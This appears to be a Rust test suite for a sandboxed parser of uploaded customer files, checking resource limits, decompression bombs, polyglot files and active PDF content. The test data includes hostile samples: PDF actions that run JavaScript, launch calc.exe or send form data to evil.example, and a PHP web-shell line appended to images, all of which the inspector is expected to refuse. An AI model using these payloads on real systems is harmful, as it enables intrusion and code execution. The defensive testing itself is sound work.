//! Files of customers, parsed by a process with limits and in this process. Both give the same result.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use bytes::Bytes;
use domain::document::FileType;
use futures_util::stream;
use integrations::inspector::{InProcess, Subprocess};
use ports::{FileFacts, InspectFault, Inspector, Pieces};
use testkit::{PATIENCE, binary, documents, until};

fn both() -> [Box<dyn Inspector>; 2] {
    // A loaded machine is no reason to fail.
    [Box::new(Subprocess::new(binary()).with_timeout(Duration::from_secs(120))), Box::new(InProcess)]
}

fn pieces(file: &[u8]) -> Pieces<'static> {
    let parts: Vec<_> = file.chunks(10_000).map(|part| Ok(Bytes::copy_from_slice(part))).collect();
    Box::pin(stream::iter(parts))
}

async fn refused(kind: FileType, file: &[u8], fault: &InspectFault) {
    for inspector in both() {
        assert_eq!(inspector.inspect(kind, pieces(file)).await.as_ref(), Err(fault), "{kind:?}");
    }
}

#[tokio::test]
async fn pictures_of_every_type_are_measured_and_shown() {
    for kind in FileType::all().filter(|kind| kind.is_picture()) {
        let file = documents::picture(kind, 300, 200);
        for inspector in both() {
            let facts = inspector.inspect(kind, pieces(&file)).await.unwrap();
            assert_eq!((facts.pages, facts.width, facts.height), (Some(1), Some(300), Some(200)), "{kind:?}");
            let shown = inspector.picture(kind, pieces(&file), 1, 150).await.unwrap();
            let image = image::load_from_memory(&shown.bytes).unwrap();
            assert_eq!((shown.content_type, image.width(), image.height()), ("image/jpeg", 150, 100), "{kind:?}");
            let none = inspector.picture(kind, pieces(&file), 2, 150).await;
            assert_eq!(none, Err(InspectFault::NoSuchPage));
        }
    }
}

#[tokio::test]
async fn pages_of_a_pdf_are_counted_and_drawn() {
    let file = documents::pdf(&["One", "Two", ""]);
    for inspector in both() {
        let facts = inspector.inspect(FileType::Pdf, pieces(&file)).await.unwrap();
        let a4 = FileFacts { pages: Some(3), width: Some(595), height: Some(842), is_protected: false };
        assert_eq!(facts, a4);
        let mut inks = Vec::new();
        for page in 1..=3 {
            let shown = inspector.picture(FileType::Pdf, pieces(&file), page, 600).await.unwrap();
            assert_eq!((shown.content_type, shown.pages), ("image/png", 3));
            let image = image::load_from_memory(&shown.bytes).unwrap().to_luma8();
            assert_eq!(image.width(), 600);
            inks.push(image.pixels().filter(|pixel| pixel.0[0] < 128).count());
        }
        assert!(inks[0] > 500 && inks[1] > 500 && inks[0] != inks[1], "each page shows its own text: {inks:?}");
        assert_eq!(inks[2], 0, "an empty page is white");
        for page in [0, 4] {
            let none = inspector.picture(FileType::Pdf, pieces(&file), page, 600).await;
            assert_eq!(none, Err(InspectFault::NoSuchPage));
        }
    }
}

#[tokio::test]
async fn a_protected_pdf_is_recognised_and_has_no_preview() {
    let file = documents::protected_pdf();
    for inspector in both() {
        let facts = inspector.inspect(FileType::Pdf, pieces(&file)).await.unwrap();
        assert_eq!(facts, FileFacts { pages: None, width: None, height: None, is_protected: true });
        assert_eq!(inspector.picture(FileType::Pdf, pieces(&file), 1, 600).await, Err(InspectFault::NoPicture));
    }
}

#[tokio::test]
async fn every_page_of_a_scan_is_shown() {
    let file = documents::tiff(3);
    for inspector in both() {
        assert_eq!(inspector.inspect(FileType::Tiff, pieces(&file)).await.unwrap().pages, Some(3));
        for page in 1..=3 {
            let shown = inspector.picture(FileType::Tiff, pieces(&file), page, 600).await.unwrap();
            let image = image::load_from_memory(&shown.bytes).unwrap();
            assert_eq!((shown.pages, image.width()), (3, 9 + page));
        }
    }
}

#[tokio::test]
async fn office_files_are_checked_and_have_no_preview() {
    let file = documents::docx("<w:document/>");
    for inspector in both() {
        let facts = inspector.inspect(FileType::Docx, pieces(&file)).await.unwrap();
        assert_eq!((facts.pages, facts.is_protected), (None, false));
        assert_eq!(inspector.picture(FileType::Docx, pieces(&file), 1, 600).await, Err(InspectFault::NoPicture));
    }
    refused(FileType::Xlsx, &file, &InspectFault::Unreadable).await;
    let macros =
        documents::zip(&[("[Content_Types].xml", b""), ("word/document.xml", b""), ("word/vbaProject.bin", b"")]);
    refused(FileType::Docx, &macros, &InspectFault::Unreadable).await;
}

#[tokio::test]
async fn a_file_that_only_begins_like_its_type_is_unreadable() {
    let page = b"<script>alert(1)</script>".as_slice();
    let beginnings: [(FileType, &[u8]); 9] = [
        (FileType::Pdf, b"%PDF-1.7\n"),
        (FileType::Png, b"\x89PNG\r\n\x1A\n"),
        (FileType::Jpg, b"\xFF\xD8\xFF\xE0"),
        (FileType::Tiff, b"II*\0\x08\0\0\0"),
        (FileType::Webp, b"RIFF\x24\0\0\0WEBPVP8 "),
        (FileType::Bmp, b"BM\x46\0\0\0\0\0\0\0"),
        (FileType::Gif, b"GIF89a\x01\0\x01\0"),
        (FileType::Docx, b"PK\x03\x04"),
        (FileType::Xlsx, b"PK\x03\x04"),
    ];
    for (kind, beginning) in beginnings {
        refused(kind, &[beginning, page].concat(), &InspectFault::Unreadable).await;
        refused(kind, beginning, &InspectFault::Unreadable).await;
    }
    let png = documents::picture(FileType::Png, 300, 200);
    refused(FileType::Png, &png[..png.len() / 2], &InspectFault::Unreadable).await;
}

#[tokio::test]
async fn decompression_bombs_are_refused() {
    refused(FileType::Png, &documents::png_that_claims(50_000, 50_000), &InspectFault::TooMuch).await;
    refused(FileType::Png, &documents::png_that_claims(8_000, 5_001), &InspectFault::TooMuch).await;
    let zeros = vec![0; 12 * 1024 * 1024];
    let dense = documents::zip(&[("[Content_Types].xml", b""), ("word/document.xml", &zeros)]);
    refused(FileType::Docx, &dense, &InspectFault::TooMuch).await;
    let names: Vec<String> = (0..1001).map(|number| number.to_string()).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), b"".as_slice())).collect();
    refused(FileType::Docx, &documents::zip(&many), &InspectFault::TooMuch).await;
}

/// The size that a zip claims is not trusted.
#[tokio::test]
async fn a_zip_that_lies_about_its_size_is_found_out() {
    let zeros = vec![0; 12 * 1024 * 1024];
    let mut lying = documents::zip(&[("[Content_Types].xml", b""), ("word/document.xml", &zeros)]);
    let (claim, lie) = ((zeros.len() as u32).to_le_bytes(), 100u32.to_le_bytes());
    let mut at = 0;
    while let Some(found) = lying[at..].windows(4).position(|four| four == claim) {
        lying[at + found..at + found + 4].copy_from_slice(&lie);
        at += found + 4;
    }
    for inspector in both() {
        assert!(inspector.inspect(FileType::Docx, pieces(&lying)).await.is_err());
    }
}

/// A picture taken with the phone on its side.
#[tokio::test]
async fn a_turned_picture_is_turned_back() {
    let upright = documents::picture(FileType::Jpg, 300, 200);
    let exif = b"\xFF\xE1\0\x22Exif\0\0II*\0\x08\0\0\0\x01\0\x12\x01\x03\0\x01\0\0\0\x06\0\0\0\0\0\0\0";
    let turned = [&upright[..2], exif, &upright[2..]].concat();
    for inspector in both() {
        let facts = inspector.inspect(FileType::Jpg, pieces(&turned)).await.unwrap();
        assert_eq!((facts.width, facts.height), (Some(200), Some(300)));
    }
}

/// Written by another process: one that we hold open for writing could not be started while some other test forks.
fn script(folder: &Path, text: &str) -> PathBuf {
    let path = folder.join("program");
    let write = "printf '#!/bin/sh\n%s\n' \"$1\" > \"$2\" && chmod 755 \"$2\"";
    let done = Command::new("/bin/sh").args(["-c", write, "sh", text]).arg(&path).status().unwrap();
    assert!(done.success());
    path
}

async fn has_limits(task: &str, space: &str, seconds: &str) {
    let mut child = Command::new(binary())
        .args(["inspect", task, "--kind", "pdf"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let place = format!("/proc/{}/limits", child.id());
    let limits = || std::fs::read_to_string(&place).unwrap_or_default();
    let has = |name: &str, value: &str| {
        limits()
            .lines()
            .any(|line| line.starts_with(name) && line.split_whitespace().filter(|word| *word == value).count() == 2)
    };
    until("the limits are set", PATIENCE, async || has("Max open files", "16")).await;
    assert!(has("Max address space", space), "{}", limits());
    assert!(has("Max cpu time", seconds), "{}", limits());
    assert!(has("Max file size", "0"), "{}", limits());
    drop(child.stdin.take());
    assert!(child.wait().unwrap().success());
}

#[tokio::test]
async fn the_parser_has_its_limits_before_it_reads_a_byte() {
    has_limits("look", "1073741824", "10").await;
    has_limits("picture", "805306368", "5").await;
}

#[tokio::test]
async fn a_parser_that_dies_or_answers_nonsense_makes_the_file_unreadable() {
    let folder = tempfile::tempdir().unwrap();
    let answers = [
        "kill -9 $$",
        "exit 3",
        "echo nonsense",
        "echo '{\"picture\":{\"contentType\":\"text/html\",\"pages\":1}}'; echo '<script>'",
        "echo '{\"picture\":{\"contentType\":\"image/png\",\"pages\":1}}'; echo '<script>'",
        ":",
    ];
    for (number, answer) in answers.iter().enumerate() {
        let folder = folder.path().join(number.to_string());
        std::fs::create_dir(&folder).unwrap();
        let inspector = Subprocess::new(script(&folder, answer)).with_timeout(Duration::from_secs(120));
        let file = || pieces(&[b'x'; 1_000_000]);
        let looked = inspector.inspect(FileType::Pdf, file()).await;
        assert_eq!(looked, Err(InspectFault::Unreadable), "{answer}");
        assert_eq!(inspector.picture(FileType::Pdf, file(), 1, 100).await, Err(InspectFault::Unreadable), "{answer}");
    }
}

#[tokio::test]
async fn the_parser_gets_none_of_our_environment() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("environment");
    let program = script(folder.path(), &format!("/usr/bin/env > {}", out.display()));
    assert!(std::env::vars().count() > 3);
    let _ = Subprocess::new(program).inspect(FileType::Pdf, pieces(b"x")).await;
    let text = std::fs::read_to_string(out).unwrap();
    // The shell itself sets these.
    let given: Vec<&str> = text
        .lines()
        .filter(|line| !["PWD=", "_=", "SHLVL=", "OLDPWD="].iter().any(|own| line.starts_with(own)))
        .collect();
    assert_eq!(given, [""; 0]);
}

#[tokio::test]
async fn an_abandoned_parser_is_killed() {
    let folder = tempfile::tempdir().unwrap();
    let pid = folder.path().join("pid");
    let program = script(
        folder.path(),
        &format!("echo $$ > {0}.part; /bin/mv {0}.part {0}; exec /bin/sleep 1000", pid.display()),
    );
    let inspector = Subprocess::new(program);
    let looking = inspector.inspect(FileType::Pdf, pieces(b"x"));
    let started = until("the program runs", PATIENCE, async || pid.exists());
    tokio::select! {
        _ = looking => panic!("it does not answer"),
        () = started => (),
    }
    let process = format!("/proc/{}/stat", std::fs::read_to_string(&pid).unwrap().trim());
    let is_gone = async || std::fs::read_to_string(&process).map_or(true, |stat| stat.contains(") Z "));
    until("the program is gone", PATIENCE, is_gone).await;
}

#[tokio::test]
async fn a_parser_that_takes_too_long_is_stopped() {
    let folder = tempfile::tempdir().unwrap();
    let inspector =
        Subprocess::new(script(folder.path(), "exec /bin/sleep 1000")).with_timeout(Duration::from_millis(200));
    let looked = inspector.inspect(FileType::Pdf, pieces(b"x")).await;
    assert!(matches!(looked, Err(InspectFault::Unavailable(_))), "{looked:?}");
}

#[tokio::test]
async fn a_few_parse_at_once() {
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("log");
    let text = format!("echo start >> {0}\n/bin/sleep 0.1\necho end >> {0}\nexit 1", log.display());
    let inspector = Subprocess::new(script(folder.path(), &text)).with_timeout(Duration::from_secs(120));
    let looks = (0..9).map(|_| inspector.inspect(FileType::Pdf, pieces(b"x")));
    futures_util::future::join_all(looks).await;
    let mut running = 0;
    let text = std::fs::read_to_string(log).unwrap();
    let most = text.lines().map(|line| {
        running += if line == "start" { 1 } else { -1 };
        running
    });
    assert_eq!((most.max(), text.lines().count()), (Some(3), 18));
}

/// 24 previews of pages that never end, and uploads in the middle of them.
#[tokio::test]
async fn previews_do_not_stop_uploads() {
    let folder = tempfile::tempdir().unwrap();
    let facts = r#"{"fileFacts":{"pages":1,"width":1,"height":1,"isProtected":false}}"#;
    let text = format!("case $2 in look) echo '{facts}';; *) exec /bin/sleep 1000;; esac");
    let inspector = Subprocess::new(script(folder.path(), &text)).with_timeout(Duration::from_secs(120));
    let flood = (0..24).map(|_| inspector.picture(FileType::Pdf, pieces(b"x"), 1, 1200));
    let uploads = async {
        for _ in 0..3 {
            assert_eq!(inspector.inspect(FileType::Pdf, pieces(b"x")).await.unwrap().pages, Some(1));
        }
    };
    tokio::select! {
        biased;
        _ = futures_util::future::join_all(flood) => panic!("uploads had to wait for all the previews"),
        () = uploads => (),
    }
}

/// Three million operators in a file of some hundred kilobytes.
#[tokio::test]
async fn a_page_of_millions_of_operators_is_accepted_and_not_rendered() {
    let file = documents::dense_pdf("0 0 595 842 re f\n", 1_500_000);
    assert!(file.len() < 400_000, "{}", file.len());
    for inspector in both() {
        assert_eq!(inspector.inspect(FileType::Pdf, pieces(&file)).await.unwrap().pages, Some(1));
        assert_eq!(inspector.picture(FileType::Pdf, pieces(&file), 1, 1200).await, Err(InspectFault::TooMuch));
    }
}

#[tokio::test]
async fn a_pdf_that_does_something_by_itself_is_refused() {
    const SCRIPT: &str = "<< /S /JavaScript /JS (app.alert(1)) >>";
    let cases: [(&str, &str, &[&str]); 13] = [
        ("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "", &[]),
        ("/OpenAction 4 0 R", "", &[SCRIPT]),
        ("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", "", &[SCRIPT]),
        ("/Open#41ction << /S /Java#53cript /J#53 (app.alert(1)) >>", "", &[]),
        ("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "", &[SCRIPT]),
        ("/OpenAction << /S /URI /URI (http://evil.example) >>", "", &[]),
        ("/OpenAction << /S /Launch /F (calc.exe) >>", "", &[]),
        ("", "/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>", &[]),
        ("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (x) >> >>]", &[]),
        ("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>", "", &["<< /Type /Filespec /F (a.exe) >>"]),
        (
            "",
            "/Annots [4 0 R]",
            &["<< /Type /Annot /Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 5 0 R >> >> >>"],
        ),
        ("", "/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]", &[]),
        ("/AcroForm << /Fields [<< /T (a) /AA << /K << /S /JavaScript /JS 4 0 R >> >> >>] >>", "", &["(x)"]),
    ];
    for (catalogue, page, more) in cases {
        for file in [documents::pdf_with(catalogue, page, more), documents::packed_pdf_with(catalogue, page, more)] {
            let looked = InProcess.inspect(FileType::Pdf, pieces(&file)).await;
            assert_eq!(looked, Err(InspectFault::Active), "{catalogue} {page} {more:?}");
        }
    }
    refused(FileType::Pdf, &documents::packed_pdf_with("/OpenAction 4 0 R", "", &[SCRIPT]), &InspectFault::Active)
        .await;
    let form = "<< /Length 36 >>\nstream\n<xdp><script>app.alert(1)</script>  \nendstream";
    let file = documents::pdf_with("/AcroForm << /XFA [(template) 4 0 R] >>", "", &[form]);
    refused(FileType::Pdf, &file, &InspectFault::Active).await;
}

#[tokio::test]
async fn ordinary_pdf_features_are_accepted() {
    let cases: [(&str, &str, &[&str]); 7] = [
        ("", "", &[]),
        ("/OpenAction [3 0 R /Fit]", "", &[]),
        ("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", "", &[]),
        ("/OpenAction << /S /Named /N /Print >>", "", &[]),
        (
            "",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://bank.example) >> >>]",
            &[],
        ),
        (
            "/AcroForm << /Fields [4 0 R] /SigFlags 3 >>",
            "",
            &["<< /FT /Sig /T (Signature1) /V << /Type /Sig /Contents <00> >> >>"],
        ),
        (
            "/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >> /Lang (JavaScript)",
            "",
            &["(/JS /Launch /EmbeddedFile)"],
        ),
    ];
    for (catalogue, page, more) in cases {
        for file in [documents::pdf_with(catalogue, page, more), documents::packed_pdf_with(catalogue, page, more)] {
            let looked = InProcess.inspect(FileType::Pdf, pieces(&file)).await;
            assert_eq!(looked.map(|facts| facts.pages), Ok(Some(1)), "{catalogue} {page} {more:?}");
        }
    }
}

/// A script that a later version of the document removed does not count.
#[tokio::test]
async fn an_updated_pdf_is_read_as_it_is_now() {
    let clean = documents::pdf_with("", "", &[]);
    let updated = documents::updated_pdf(&clean, 1, "<< /Type /Catalog /Pages 2 0 R /Lang (en) >>");
    assert_eq!(InProcess.inspect(FileType::Pdf, pieces(&updated)).await.unwrap().pages, Some(1));
    let script = "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>";
    let worse = documents::updated_pdf(&clean, 1, script);
    refused(FileType::Pdf, &worse, &InspectFault::Active).await;
    let better = documents::updated_pdf(&worse, 1, "<< /Type /Catalog /Pages 2 0 R >>");
    assert_eq!(InProcess.inspect(FileType::Pdf, pieces(&better)).await.unwrap().pages, Some(1));
}

#[tokio::test]
async fn two_files_in_one_are_refused() {
    let archive = documents::zip(&[("META-INF/MANIFEST.MF", b"x"), ("Evil.class", b"\xCA\xFE\xBA\xBE")]);
    let page = b"<html><script>alert(1)</script></html>".as_slice();
    let pdf = documents::pdf(&["One"]);
    refused(FileType::Pdf, &[&pdf, page].concat(), &InspectFault::Mixed).await;
    refused(FileType::Pdf, &[&pdf[..], &archive].concat(), &InspectFault::Mixed).await;
    // The end of the PDF as the comment of the archive.
    let mut commented = archive.clone();
    let length = commented.len();
    commented[length - 2..].copy_from_slice(&6u16.to_le_bytes());
    refused(FileType::Pdf, &[&pdf[..], &commented, b"%%EOF\n"].concat(), &InspectFault::Mixed).await;
    for kind in FileType::all().filter(|kind| kind.is_picture()) {
        let picture = documents::picture(kind, 8, 8);
        for more in [&archive[..], page, b"\0\0<?PHP system($_GET[0]);", b"<!DOCTYPE html><body>", b"%PDF-1.7\n"] {
            let looked = InProcess.inspect(kind, pieces(&[&picture[..], more].concat())).await;
            assert_eq!(looked, Err(InspectFault::Mixed), "{kind:?} {:?}", String::from_utf8_lossy(more));
        }
    }
}

/// Padding, second pictures, short films and leftovers of an editor.
#[tokio::test]
async fn trailing_data_of_phones_and_scanners_is_accepted() {
    let pdf = documents::pdf(&["One"]);
    for more in [&b"\n"[..], b"\r\n\r\n   \n", &[0; 3000], b"\n\x1A"] {
        assert!(InProcess.inspect(FileType::Pdf, pieces(&[&pdf[..], more].concat())).await.is_ok(), "{more:?}");
    }
    let marked = [b"\xEF\xBB\xBF", &pdf[..]].concat();
    assert!(InProcess.inspect(FileType::Pdf, pieces(&marked)).await.is_ok());
    let film = [b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".as_slice(), &[0x5A; 5000], b"MotionPhoto_Data"].concat();
    let second = documents::picture(FileType::Jpg, 10, 10);
    let xmp = b"<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF/></x:xmpmeta>".as_slice();
    for kind in [FileType::Jpg, FileType::Png] {
        let picture = documents::picture(kind, 30, 20);
        for more in [&[0; 4096][..], &second, &film, xmp, b"PK\x05\x06 is no archive", &picture[20..]] {
            let looked = InProcess.inspect(kind, pieces(&[&picture[..], more].concat())).await;
            assert!(looked.is_ok(), "{kind:?} {looked:?}");
        }
    }
}
